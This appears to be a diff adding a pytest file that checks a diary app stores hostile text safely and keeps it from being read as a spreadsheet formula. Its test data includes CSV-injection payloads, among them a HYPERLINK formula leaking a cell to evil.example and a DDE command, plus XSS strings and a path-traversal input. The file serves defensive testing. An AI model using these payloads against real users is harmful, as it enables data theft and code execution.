@@ -1,0 +1,181 @@
+"""Texts that want to be more than text: they come back as typed, and nothing runs them. What a browser shows of them
+stands in tests/browser/test_hostile.py.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from planner.diary import Diary
+from planner.paths import SAMPLE
+from planner.repair import delete_rating, restore_rating
+from planner.tables import TABLES, Column, csv_line, guarded, unguarded
+from planner.widgets.session_history import SessionHistory
+from planner.widgets.visits_log import Visits
+
+DAY, AT = date(2026, 11, 23), datetime(2026, 11, 23, 7, 31, tzinfo=UTC)
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "'=1+1",
+    "''=1+1",
+    "' =1+1",
+    '"=1+1"',
+    "'",
+    "-",
+    "a;=1+1",
+    'a;"=1+1&"',
+    "a,=1+1",
+    "a\n=1+1\r\n-2\t@3",
+    "a\n'=1+1",
+    "- slept badly\n- sat all day",
+)
+OTHERS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\u202egnp.exe\u2069",
+    'she said "don\'t", then; left',
+    "$\\frac{1}{0}$",
+    "../../etc/passwd",
+    "=" + "1 " * 500_000,
+)
+LIKE_FORMULAS = st.text(alphabet="'\"=+-@＝\t\r\n;,| a", max_size=12)
+BEGINS = re.compile("[=+\\-@＝＋－＠]")
+
+
+def free_columns() -> Iterator[tuple[str, Column]]:
+    for table in TABLES.values():
+        for column in table.columns:
+            if column.kind == "text" and not column.choices:
+                yield table.file, column
+
+
+def cells(line: str) -> Iterator[str]:
+    """Yield every cell that a program can make of a line, whatever it takes for the mark between cells."""
+    for mark in ",;\t|":
+        for rows in (
+            csv.reader(io.StringIO(line, newline=""), delimiter=mark),
+            csv.reader(re.split("[\r\n]", line), delimiter=mark, quoting=csv.QUOTE_NONE),
+        ):
+            for row in rows:
+                yield from row
+
+
+@given(st.one_of(LIKE_FORMULAS, st.text()))
+@example("'=")
+def test_what_guards_a_text_can_be_taken_away_again(text: str) -> None:
+    assert unguarded(guarded(text)) == text
+
+
+@given(LIKE_FORMULAS.filter(lambda text: guarded(text) == text))
+def test_a_text_that_needs_no_guard_is_read_as_it_stands(text: str) -> None:
+    assert unguarded(text) == text
+
+
+@given(LIKE_FORMULAS)
+def test_no_program_finds_a_formula_in_any_cell(text: str) -> None:
+    line = csv_line(["2026-11-23", guarded(text), guarded(text)])
+    assert [cell for cell in cells(line) if BEGINS.match(cell.lstrip())] == []
+    assert not re.match("[\t\r\n]", guarded(text))
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *OTHERS[:-1]])
+def test_every_free_column_gives_a_text_back(text: str) -> None:
+    for file, column in free_columns():
+        assert column.parse(column.text(file, text)) == text
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *OTHERS], ids=lambda text: text[:20])
+def test_the_diary_gives_every_text_back_and_knows_its_rows_by_it(data_folder: Path, text: str) -> None:
+    diary = Diary()
+    for _ in range(2):  # the second time changes nothing
+        diary.add_pain(4, about=DAY, note=text, rated_at=AT)
+        diary.add_visit(DAY, text, note=text)
+        diary.add_pause(DAY, DAY, why=text)
+        diary.put_session(
+            text, plan_id=text, date=DAY, started_at=AT, planned_s=1, active_s=1, outcome="stopped", note=text
+        )
+    assert diary.pain()["note"].to_list() == [text]
+    assert diary.visits()[["with", "note"]].to_numpy().tolist() == [[text, text]]
+    assert diary.pauses()["why"].to_list() == [text]
+    assert diary.sessions()[["session_id", "plan_id", "note"]].to_numpy().tolist() == [[text] * 3]
+    assert diary.problems().empty
+    for file in data_folder.glob("*.csv"):
+        for row in csv.reader(file.read_text("utf-8").splitlines(keepends=True)):
+            assert not [cell for cell in row if BEGINS.match(cell.lstrip())], file
+
+
+@pytest.mark.parametrize("text", [text for text in FORMULAS if unguarded(text) == text])
+def test_a_file_from_before_reads_as_before_and_stays(data_folder: Path, text: str) -> None:
+    data_folder.mkdir()
+    path = data_folder / "pain.csv"
+    quoted = text.replace('"', '""')
+    lines = ["rated_at,about,pain,region,flare,note\n", f'2026-11-22T07:00:00+00:00,2026-11-22,3,,false,"{quoted}"\n']
+    path.write_text("".join(lines), "utf-8", newline="")
+    diary, was = Diary(), path.read_bytes()
+    assert diary.pain()["note"].to_list() == [text]
+    diary.add_pain(5, about=DAY, note=text, rated_at=AT)
+    assert path.read_bytes().startswith(was)
+    rating = {"rated_at": "2026-11-22T07:00:00+00:00", "about": "2026-11-22", "pain": 3, "note": text}
+    diary.correct_rating(rating, note="calm")
+    assert diary.pain()["note"].to_list() == ["calm", text]
+
+
+def test_the_sample_reads_as_it_is_written() -> None:
+    for table in TABLES.values():
+        rows = list(csv.DictReader(io.StringIO((SAMPLE / table.file).read_text("utf-8"))))
+        frame = Diary(SAMPLE).reading(table.name).frame
+        for column in table.columns:
+            if column.kind == "text" and rows and column.name in rows[0]:
+                assert frame[column.name].to_list() == [row[column.name] for row in rows]
+
+
+def test_a_deleted_formula_comes_back(data_folder: Path) -> None:
+    diary = Diary()
+    diary.add_pain(4, about=DAY, note="=1+1", rated_at=AT)
+    was = (data_folder / "pain.csv").read_bytes()
+    rating = {"rated_at": AT, "about": DAY, "pain": 4, "note": "=1+1"}
+    delete_rating(diary, rating, AT)
+    assert diary.pain().empty
+    assert b",'=1+1," in (data_folder / "deleted" / "pain.csv").read_bytes()
+    restore_rating(diary, rating)
+    assert (data_folder / "pain.csv").read_bytes() == was
+
+
+@pytest.mark.parametrize("text", [*FORMULAS[:6], "'=1+1", *OTHERS[:3]])
+def test_the_lists_show_and_correct_a_text_as_typed(data_folder: Path, text: str) -> None:
+    diary = Diary()
+    diary.add_visit(DAY - timedelta(1), text, note=text)
+    diary.add_pain(4, about=DAY, note=text, rated_at=AT)
+    visits, history = Visits(diary), SessionHistory(diary)
+    (visit,), (rating,) = visits.view["visits"], history.view["ratings"]
+    assert (visit["with"], visit["note"], rating["note"]) == (text, text, text)
+    visits.request = {
+        **{"type": "correct", "number": 1, "id": visit["id"], "today": "2026-11-23", "date": "2026-11-22"},
+        **{"with_whom": text, "note": f"{text}!", "next_due": None},
+    }
+    history.request = {
+        **{"type": "correct_rating", "number": 1, "id": rating["id"]},
+        **{"pain": 4, "region": "", "flare": False, "note": f"{text}!"},
+    }
+    assert (visits.answer["message"], history.answer["message"]) == ("Saved.", "Saved.")
+    assert diary.visits()[["with", "note"]].to_numpy().tolist() == [[text, f"{text}!"]]
+    assert diary.pain()["note"].to_list() == [f"{text}!"]
